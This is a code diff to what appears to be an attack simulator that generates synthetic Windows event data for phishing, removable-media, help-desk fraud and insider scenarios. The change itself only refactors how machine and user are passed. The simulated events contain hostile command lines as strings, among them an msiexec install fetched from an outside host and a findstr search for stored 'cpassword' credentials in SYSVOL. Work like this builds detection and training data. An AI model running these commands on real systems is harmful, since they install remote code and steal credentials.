@@ -7,8 +7,8 @@ import { becomeSystem, dumpCredentials, encrypt, lookAround, moveTo, readDirecto
 export function phishingToRansomware(cast: Cast): void {
   const { intruder } = cast;
   const { dice } = intruder;
-  const desk = cast.workstation();
-  const shell = openedDocument(cast, desk.name, intruder.process(intruder.atWork(desk, cast.user()), "explorer.exe"));
+  const { machine, user } = cast.desk();
+  const shell = openedDocument(cast, intruder.process(intruder.atWork(machine, user), "explorer.exe"));
   lookAround(cast, shell);
   intruder.wait(5, 60);
   const system = becomeSystem(cast, shell);
@@ -26,8 +26,8 @@ export function phishingToRansomware(cast: Cast): void {
 /** A document that only gets as far as its reader's machine, as the reader and as SYSTEM. */
 export function phishingStopped(cast: Cast): void {
   const { intruder } = cast;
-  const desk = cast.workstation();
-  const shell = openedDocument(cast, desk.name, intruder.process(intruder.atWork(desk, cast.user()), "explorer.exe"));
+  const { machine, user } = cast.desk();
+  const shell = openedDocument(cast, intruder.process(intruder.atWork(machine, user), "explorer.exe"));
   lookAround(cast, shell);
   intruder.act(
     shell,
@@ -44,9 +44,9 @@ export function phishingStopped(cast: Cast): void {
   dumpCredentials(cast, system);
 }
 
-function openedDocument({ intruder }: Cast, host: string, explorer: Process): Process {
+function openedDocument({ intruder }: Cast, explorer: Process): Process {
   const { dice } = intruder;
-  const url = `http://${intruder.outside()}/${host.length}`;
+  const url = `http://${intruder.outside()}/a`;
   switch (dice.int(0, 2)) {
     case 0: {
       const word = intruder.process(explorer.session, dice.pick(["WINWORD.EXE", "EXCEL.EXE"]), "Invoice.docm");
@@ -81,7 +81,8 @@ function openedDocument({ intruder }: Cast, host: string, explorer: Process): Pr
 /** A stick whose shortcut starts an installer from the web; it comes back as a task of the machine. */
 export function removableMedia(cast: Cast): void {
   const { intruder } = cast;
-  const session = intruder.atWork(cast.workstation(), cast.user());
+  const { machine, user } = cast.desk();
+  const session = intruder.atWork(machine, user);
   const explorer = intruder.process(session, "explorer.exe");
   const cmd = intruder.start(explorer, "cmd.exe", "cmd /R <E:\\x.log", "");
   const msi = intruder.start(cmd, "msiexec.exe", `msiexec /q /i http://${intruder.outside()}:8080/a`, "msiexec_web");
@@ -104,8 +105,8 @@ export function removableMedia(cast: Cast): void {
 export function helpDeskFraud(cast: Cast): void {
   const { intruder } = cast;
   const { dice } = intruder;
-  const desk = cast.workstation();
-  const user = intruder.atWork(desk, cast.user());
+  const { machine: desk, user: owner } = cast.desk();
+  const user = intruder.atWork(desk, owner);
   const explorer = intruder.process(user, "explorer.exe");
   const remote = intruder.start(
     explorer,
@@ -136,12 +137,12 @@ export function helpDeskFraud(cast: Cast): void {
 export function insider(cast: Cast): void {
   const { intruder } = cast;
   const { dice } = intruder;
-  const desk = cast.workstation();
-  const own = intruder.atWork(desk, cast.user());
+  const { machine: desk, user } = cast.desk();
+  const own = intruder.atWork(desk, user);
   const explorer = intruder.process(own, "explorer.exe");
   const files = cast.server();
   const share = { ShareName: "\\\\*\\Finance", RelativeTargetName: "plans.kdbx", IpAddress: desk.ip };
-  const there = intruder.logon(files, own.user ?? "", { machine: desk, ip: desk.ip }, 3, "");
+  const there = intruder.logon(files, user, { machine: desk, ip: desk.ip }, 3, "");
   for (let at = 0; at < dice.int(1, 3); at++) intruder.event(there, 5145, "Security", share, "share_access", desk.ip);
   intruder.start(explorer, "findstr.exe", "findstr /S /I cpassword \\\\corp\\sysvol\\*.xml", "findstr_pass");
   if (dice.chance(0.6)) {
